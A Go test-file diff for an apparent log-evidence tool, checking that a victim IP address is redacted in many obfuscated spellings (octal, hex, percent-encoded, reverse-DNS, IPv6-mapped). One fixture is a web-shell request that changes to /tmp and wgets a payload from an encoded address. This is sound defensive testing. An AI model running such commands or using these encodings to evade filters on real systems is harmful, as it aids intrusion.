@@ -19,6 +19,11 @@ func TestVictims_AreInNoObject(t *testing.T) {
 		"198.51.100.7", "x198.51.100.7", "1198.51.100.7", "198.51.100.72001", "a198.51.100.7:23", "1.198.51.100.7", "198[.]51[.]100[.]7",
 		"198%2e51%2E100%2e7", "198-51-100-7.example", "::ffff:198.51.100.7", "2001:db8:7::7", "2001:DB8:7:0::7",
 		"[2001:db8:7::7]:80", "2001%3Adb8%3a7%3A%3a7", "ab2001:db8:7::7", "/2001:db8:7:0:0:0:0:7",
+		"198.051.100.007", "198[dot]51[DOT]100(dot)7", "198 dot 51 dot 100 dot 7", "198[.51.]100{.}7", "198%252e51%252e100%252e7",
+		"0306.063.0144.07", "http://3325256711/a", "3325256711/a", "http://0xC6336407/a",
+		"7.100.51.198.in-addr.arpa", "7.100.51.198.IN-ADDR.ARPA.", "100.51.198.in-addr.arpa", "7-100-51-198.static.example.net",
+		"2002:c633:6407::1", "64:ff9b::c633:6407", "::c633:6407", "2001[:]db8[:]7[:][:]7", "2001%253adb8%253a7%253a%253a7",
+		"7.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.7.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa", "7.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa",
 	}
 	for _, spelling := range spellings {
 		e := attempt("203.0.113.9", start())
@@ -36,13 +41,30 @@ func TestVictims_AreInNoObject(t *testing.T) {
 			t.Errorf("%s leaves as %s", spelling, p[0].Raw)
 		}
 	}
-	for _, harmless := range []string{"198.51.101.7", "198.51.1007.1", "1.2.3", "12:30:00"} {
+	for _, harmless := range []string{"198.51.101.7", "198.51.1007.1", "1.2.3", "12:30:00",
+		"7.100.51.198", "3325256711", "51.198.in-addr.arpa", "7.101.51.198.in-addr.arpa"} {
 		e := attempt("203.0.113.9", start())
 		e.Action, e.Command, e.Destination.Addr = logs.Run, "wget "+harmless, netip.Addr{}
 		o := evidence.Options{HomeNets: []netip.Prefix{netip.MustParsePrefix("198.51.100.0/24")}}
 		if got, _ := makeAll(t, o, []logs.Event{e}); len(got.of("process")) != 1 {
 			t.Errorf("%s does not leave", harmless)
 		}
+	}
+}
+
+// Whatever is behind the escapes of a URL counts like what stands there.
+func TestVictims_AreFoundBehindEscapes(t *testing.T) {
+	e := attempt("203.0.113.9", start())
+	e.Format, e.Action, e.Method = logs.Web, logs.Request, "GET"
+	e.URL = "/shell?cd+/tmp;wget+http://%31%398.51.100.7/x"
+	got, _ := makeAll(t, evidence.Options{}, []logs.Event{e})
+	for _, o := range got.all {
+		if strings.Contains(string(o.Raw), "98.51.100") {
+			t.Errorf("%s", o.Raw)
+		}
+	}
+	if len(got.all) == 0 {
+		t.Error("nothing is told of the attack")
 	}
 }
 
